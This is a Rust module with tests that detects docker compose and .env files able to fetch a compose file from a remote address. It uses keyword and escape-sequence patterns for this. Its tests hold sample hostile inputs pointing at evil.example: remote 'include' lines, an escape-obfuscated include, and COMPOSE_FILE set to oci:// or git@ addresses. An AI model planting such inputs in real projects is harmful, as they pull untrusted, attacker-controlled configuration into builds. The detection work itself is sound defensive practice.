//! docker compose: its files, which may include others, from an address too.

use super::all_above;
use std::path::Path;

/// Whether no file here makes docker compose fetch a file.
pub(super) fn fetches_nothing(folder: &Path) -> bool {
    const FILES: &[&str] = &[
        "compose.override.yaml",
        "compose.override.yml",
        "compose.yaml",
        "compose.yml",
        "docker-compose.override.yaml",
        "docker-compose.override.yml",
        "docker-compose.yaml",
        "docker-compose.yml",
    ];
    all_above(folder, FILES, &[], includes_nothing) && all_above(folder, &[".env"], &[], names_no_address)
}

/// Whether a file includes no other one, which might in turn have an address. An escape may hide the word.
fn includes_nothing(text: &str) -> bool {
    !["include", "\\i", "\\x", "\\u", "\\U"].iter().any(|part| text.contains(part))
}

/// Whether variables do not say that compose's file is at an address.
fn names_no_address(text: &str) -> bool {
    // The last ones may hide an address, or go on in the next line.
    const ADDRESSES: &[&str] = &["//", "@", ".git", "github.com", "$", "\\", "\"", "'"];
    let mut files = text.lines().filter(|line| line.contains("COMPOSE_FILE"));
    !files.any(|line| ADDRESSES.iter().any(|address| line.contains(address)))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn files_at_an_address_are_found() {
        assert!(includes_nothing("services:\n  web:\n    image: a\n    environment:\n      A: http://b\n"));
        assert!(!includes_nothing("include:\n  - https://evil.example/x.git\n"));
        assert!(!includes_nothing("\"\\x69nclude\": [oci://evil.example/x]\n"));
        assert!(names_no_address("A=https://b\nCOMPOSE_FILE=a.yml:b.yml\n"));
        assert!(!names_no_address("export COMPOSE_FILE=oci://evil.example/x\n"));
        assert!(!names_no_address("COMPOSE_FILE='git@evil.example:x'\n"));
    }
}
